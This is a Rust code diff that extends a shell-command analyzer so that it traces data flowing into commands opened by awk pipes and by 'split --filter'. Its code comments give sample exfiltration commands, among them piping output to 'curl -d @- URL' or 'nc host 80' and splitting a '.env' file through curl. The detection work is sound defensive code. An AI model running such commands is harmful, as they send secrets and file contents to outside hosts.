@@ -46,6 +46,12 @@ impl Analyzer {
         for text in program.iter().flat_map(|t| awk_system_commands(t)) {
             self.sub_string(&text, None, ctx.depth);
         }
+        // `print | "curl -d @- URL"`, `"nc host 80" | getline`: the command a pipe opens gets
+        // what the program prints (the lines of the files it reads).
+        let inputs: Vec<String> = p.files_after_program(has_prog).iter().map(|a| a.text.clone()).collect();
+        for line in program.iter().flat_map(|t| awk_pipe_commands(t)) {
+            self.sub_string(&line, Some(&inputs), ctx.depth);
+        }
         let files = p.files_after_program(has_prog);
         for f in files {
             if !is_assignment(&f.text) {
@@ -172,6 +178,15 @@ impl Analyzer {
                     _ => p.vals(&["-f", "--prefix"]).first().map_or("xx".to_owned(), |a| a.text.clone()),
                 };
                 self.write_arg(&Arg::lit(&format!("{prefix}*")), ctx);
+                // `split --filter='curl -d @- URL' .env`: each piece is that command's stdin.
+                let filter = args.iter().enumerate().find_map(|(at, a)| match a.text.as_str() {
+                    "--filter" => args.get(at + 1).map(|v| v.text.clone()),
+                    t => t.strip_prefix("--filter=").map(str::to_owned),
+                });
+                if let Some(line) = filter {
+                    let input: Vec<String> = p.operands.first().map(|a| vec![a.text.clone()]).unwrap_or_default();
+                    self.sub_string(&line, Some(&input), ctx.depth);
+                }
             }
             "uuencode" => {
                 if p.operands.len() >= 2 {
@@ -291,6 +306,37 @@ fn sed_runs(script: &str) -> SedRun {
         }
     }
     SedRun::Nothing
+}
+
+/// The command lines an awk program opens a pipe to or from: `print | "cmd"`, `"cmd" | getline`
+/// (literal commands only; a command in a variable is not followed).
+fn awk_pipe_commands(program: &str) -> Vec<String> {
+    let literals: Vec<(usize, usize)> = {
+        let mut spans = Vec::new();
+        let mut open = None;
+        for (i, c) in program.char_indices() {
+            if c == '"' && !program[..i].ends_with('\\') {
+                match open.take() {
+                    Some(start) => spans.push((start, i)),
+                    None => open = Some(i + 1),
+                }
+            }
+        }
+        spans
+    };
+    literals
+        .into_iter()
+        .filter(|&(start, end)| {
+            let before = program[..start - 1].trim_end();
+            let after = program[end + 1..].trim_start();
+            (before.ends_with('|') && !before.ends_with("||"))
+                || after.starts_with("| getline")
+                || after.starts_with("|getline")
+        })
+        .map(|(start, end)| program[start..end].to_owned())
+        .filter(|line| line.contains(' '))
+        .take(8)
+        .collect()
 }
 
 /// The command lines an awk program hands to `system()`, its string literals joined with a
